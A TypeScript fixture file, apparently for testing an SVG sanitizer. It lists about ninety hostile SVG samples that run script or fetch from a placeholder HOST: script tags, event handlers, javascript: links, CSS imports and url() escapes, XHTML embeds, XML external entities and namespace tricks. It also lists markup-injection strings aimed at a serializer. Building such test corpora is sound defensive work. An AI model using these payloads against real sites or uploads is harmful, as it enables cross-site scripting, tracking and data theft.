/**
 * Drawings that ask a host or run a script when a browser opens them, each by another way. `HOST` stands for a host
 * that must not be asked;
 * code calls `alert`, which a browser tells as a dialog.
 */
const NS = `xmlns="http://www.w3.org/2000/svg"`;
const LINK = `xmlns:xlink="http://www.w3.org/1999/xlink"`;
const HTML = `xmlns:h="http://www.w3.org/1999/xhtml"`;
const svg = (inner: string, attributes = ""): string => `<svg ${NS} viewBox="0 0 90 90" ${attributes}>${inner}</svg>`;
const rect = (attributes: string): string => `<rect width="90" height="90" ${attributes}/>`;
const style = (css: string, attributes = ""): string => svg(`<style ${attributes}>${css}</style>${rect("")}`);
const RUN = "alert(1)";

export const HOSTILE: { readonly [what: string]: string } = {
  "a script": svg(`<script>${RUN}</script>`),
  "a script from elsewhere": svg(`<script href="HOST/a.js"/>`),
  "a script from elsewhere by XLink": svg(`<script xlink:href="HOST/a.js"/>`, LINK),
  "a script in CDATA": svg(`<script><![CDATA[${RUN}]]></script>`),
  "a script with an ASCII prefix": `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>${RUN}</s:script></s:svg>`,
  "a script with a prefix beyond ASCII": svg(`<é:script>${RUN}</é:script>`, `xmlns:é="http://www.w3.org/2000/svg"`),
  "a picture with a prefix beyond ASCII": svg(
    `<ü:image href="HOST/a.png" width="9" height="9"/>`,
    `xmlns:ü="http://www.w3.org/2000/svg"`,
  ),
  "XLink under a prefix beyond ASCII": svg(
    `<image ж:href="HOST/a.png" width="9" height="9"/>`,
    `xmlns:ж="http://www.w3.org/1999/xlink"`,
  ),
  "a use with XLink under another name": svg(`<use l:href="HOST/a.svg#a"/>`, `xmlns:l="http://www.w3.org/1999/xlink"`),
  "a namespace bound deep within": svg(`<g><q:script xmlns:q="http://www.w3.org/2000/svg">${RUN}</q:script></g>`),
  "a namespace written with character references": svg(
    `<k:script>${RUN}</k:script>`,
    `xmlns:k="http://www.w3.org/2000/&#115;vg"`,
  ),
  "an editor's prefix bound to SVG": svg(
    `<inkscape:script>${RUN}</inkscape:script>`,
    `xmlns:inkscape="http://www.w3.org/2000/svg"`,
  ),
  "an editor's prefix bound to XHTML": svg(
    `<sodipodi:img src="HOST/a.png"/>`,
    `xmlns:sodipodi="http://www.w3.org/1999/xhtml"`,
  ),
  "a script of XHTML": svg(`<h:script>${RUN}</h:script>`, HTML),
  "a picture of XHTML": svg(`<h:img src="HOST/a.png"/>`, HTML),
  "a picture of XHTML that fails": svg(`<h:img src="x:" onerror="${RUN}"/>`, HTML),
  "a frame of XHTML": svg(`<foreignObject width="90" height="90"><h:iframe src="HOST/"/></foreignObject>`, HTML),
  "a sheet linked by XHTML": svg(`<h:link rel="stylesheet" href="HOST/a.css"/>`, HTML),
  "a base of XHTML": svg(`<h:base href="HOST/"/><image href="a.png" width="9" height="9"/>`, HTML),
  "a renewal by XHTML": svg(`<h:meta http-equiv="refresh" content="0;url=HOST/"/>`, HTML),
  "an object of XHTML": svg(
    `<foreignObject width="90" height="90"><h:object data="HOST/a.svg"/></foreignObject>`,
    HTML,
  ),
  "a film of XHTML": svg(
    `<foreignObject width="90" height="90"><h:video src="HOST/a.mp4" autoplay="a"/></foreignObject>`,
    HTML,
  ),
  "XHTML as the usual namespace": svg(`<body xmlns="http://www.w3.org/1999/xhtml"><img src="HOST/a.png"/></body>`),
  "XHTML as a style": svg(`<h:style>svg{background:url(HOST/a.png)}</h:style>`, HTML),
  "a page as the root": `<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="HOST/a.png"/></body></html>`,
  "a page within": svg(
    `<foreignObject width="90" height="90"><h:p style="background:url(HOST/a.png)">a</h:p></foreignObject>`,
    HTML,
  ),
  "a handler on the root": svg("", `onload="${RUN}"`),
  "a handler on a shape": svg(`<g onfocus="${RUN}" tabindex="1" autofocus="a"/>`),
  "a handler with references for its signs": svg("", `onload="&#97;lert(1)"`),
  "a handler at the end of an animation": svg(`<rect><animate attributeName="x" dur="1ms" onend="${RUN}"/></rect>`),
  "a handler at its start": svg(`<animate attributeName="x" dur="1s" onbegin="${RUN}"/>`),
  "a handler of a picture that fails": svg(`<image href="x:" onerror="${RUN}"/>`),
  "a picture": svg(`<image href="HOST/a.png" width="9" height="9"/>`),
  "a picture by XLink": svg(`<image xlink:href="HOST/a.png" width="9" height="9"/>`, LINK),
  "a picture without a scheme": svg(`<image href="//HOSTNAME/a.png" width="9" height="9"/>`),
  "a picture in a filter": svg(`<filter id="f"><feImage href="HOST/a.png"/></filter>${rect(`filter="url(#f)"`)}`),
  "a base for what is local": svg(`<image href="a.png" width="9" height="9"/>`, `xml:base="HOST/"`),
  "a use from elsewhere": svg(`<use href="HOST/a.svg#a"/>`),
  "a use of data": svg(`<use href="data:image/svg+xml,&lt;svg ${NS} id='a' onload='${RUN}'/>#a"/>`),
  "a link that runs code": svg(`<a href="java&#9;script:${RUN}"><rect width="90" height="90"/></a>`),
  "a set on a reference": svg(`<image width="9" height="9"><set attributeName="href" to="HOST/a.png"/></image>`),
  "a set on a reference by XLink": svg(
    `<image width="9" height="9"><set attributeName="xlink:href" to="HOST/a.png"/></image>`,
    LINK,
  ),
  "an animation of a reference": svg(
    `<image width="9" height="9"><animate attributeName="href" values="HOST/a.png;HOST/b.png" dur="1s"/></image>`,
  ),
  "a set on a fill": svg(`<rect width="9" height="9"><set attributeName="fill" to="url(HOST/a.svg#a)"/></rect>`),
  "an import": style(`@import "HOST/a.css";`),
  "an import by url": style("@import url(HOST/a.css);"),
  "an import in CDATA": style(`<![CDATA[@import "HOST/a.css";]]>`),
  "an import with an escape": style(`@\\69mport "HOST/a.css";`),
  "an import with a comment before it": style(`/* */@import/**/"HOST/a.css";`),
  "an import in two pieces": style(`@imp<![CDATA[ort "HOST/a.css";]]>`),
  "an import with references for its signs": style(`&#64;import "HOST/a.css";`),
  "a background": style("svg{background:url(HOST/a.png)}"),
  "a background in quotes": style(`svg{background:url("HOST/a.png")}`),
  "a background with an escape": style("svg{background:u\\72l(HOST/a.png)}"),
  "a background with an escape in CDATA": style("<![CDATA[svg{background:\\75 rl(HOST/a.png)}]]>"),
  "a set of pictures": style(`svg{background:image-set("HOST/a.png" 1x)}`),
  "a set of pictures, prefixed": style(`svg{background:-webkit-image-set(url(HOST/a.png) 1x)}`),
  "a picture through a variable": style("svg{--a:url(HOST/a.png);background:var(--a)}"),
  "a mixture of pictures": style("svg{background:-webkit-cross-fade(url(HOST/a.png),url(HOST/b.png),50%)}"),
  "a face of type": style(`@font-face{font-family:a;src:url(HOST/a.woff)}text{font-family:a}`).replace(
    "</svg>",
    `<text y="9">a</text></svg>`,
  ),
  "styles for some screens": style("@media screen{svg{background:url(HOST/a.png)}}"),
  "styles in layers": style("@layer a{svg{background:url(HOST/a.png)}}"),
  "styles within styles": style("svg{rect{background:url(HOST/a.png)} & {background:url(HOST/b.png)}}"),
  "a sign before the root": style("svg::before{content:url(HOST/a.png)}"),
  "a pointer": style("svg{cursor:url(HOST/a.cur),auto}"),
  "a bullet": style("svg{display:list-item;list-style:url(HOST/a.png)}"),
  "a mask of pictures": style("svg{-webkit-mask-image:url(HOST/a.png)}"),
  "a border of pictures": style("svg{border:9px solid;border-image:url(HOST/a.png) 1}"),
  "a background on the root": svg("", `style="background:url(HOST/a.png)"`),
  "a background on the root, escaped": svg("", `style="background:\\75rl(HOST/a.png)"`),
  "a background on the root, a set": svg("", `style="background:image-set('HOST/a.png' 1x)"`),
  "a fill": svg(rect(`fill="url(HOST/a.svg#a)"`)),
  "a fill in capitals": svg(rect(`fill="URL(HOST/a.svg#a)"`)),
  "a fill with an escape": svg(rect(`fill="\\55 RL(HOST/a.svg#a)"`)),
  "a filter": svg(rect(`filter="url(HOST/a.svg#a)"`)),
  "a mask": svg(rect(`mask="url('HOST/a.svg#a')"`)),
  "a clip": svg(rect(`clip-path="url(HOST/a.svg#a)"`)),
  "a marker": svg(`<path d="M0 0h9" marker-end="url(HOST/a.svg#a)"/>`),
  "a pointer on the root": svg("", `cursor="url(HOST/a.cur),auto"`),
  "an instruction for styles": `<?xml-stylesheet href="HOST/a.css"?>${svg("")}`,
  "an instruction for XSLT": `<?xml-stylesheet type="text/xsl" href="HOST/a.xsl"?>${svg("")}`,
  "an entity that is a script": `<!DOCTYPE svg [<!ENTITY a "<script ${NS.replaceAll('"', "'")}>${RUN}</script>">]>${svg("&a;")}`,
  "an entity that is a place": `<!DOCTYPE svg [<!ENTITY a "HOST/a.png">]>${svg(`<image href="&a;" width="9" height="9"/>`)}`,
  "an attribute set by a document type": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${svg("")}`,
  "a namespace set by a document type": `<!DOCTYPE svg [<!ATTLIST x:script xmlns:x CDATA "http://www.w3.org/2000/svg">]>${svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${RUN}</x:script>`)}`,
  "an outer entity": `<!DOCTYPE svg [<!ENTITY a SYSTEM "HOST/a.xml">]>${svg("&a;")}`,
  "a listener of XML Events": svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
  ),
  "a script after a stray comment": svg(`<!-- --><!-- > --><script>${RUN}</script>`),
  "a script after a quote in a comment": svg(`<!-- " --><script>${RUN}</script><!-- " -->`),
  "a script in a symbol that is used": svg(`<symbol id="a"><script>${RUN}</script></symbol><use href="#a"/>`),
  "a script in notes": svg(`<metadata><script>${RUN}</script></metadata>`),
  "a script in a title": svg(`<title><h:script>${RUN}</h:script></title>`, HTML),
  "a drawing cut short": svg(`<script>${RUN}</script>`).slice(0, -3),
  "a second root": `${svg("")}${svg(`<script>${RUN}</script>`)}`,
};

/** Words and values by which markup might be got through the writer. */
export const FORGED: readonly string[] = [
  svg(`<title>&lt;script&gt;${RUN}&lt;/script&gt;</title>`),
  svg(`<title><![CDATA[</title><script>${RUN}</script>]]></title>`),
  svg(`<g id="&quot; onload=&quot;${RUN}"/>`),
  svg(`<g class="a&#10;b&lt;script&gt;"/>`),
  style(`text{font-family:"&lt;/style>&lt;script>${RUN}&lt;/script>"}`),
  svg(`<text>]]&gt;&amp;lt;script&amp;gt;</text>`),
];
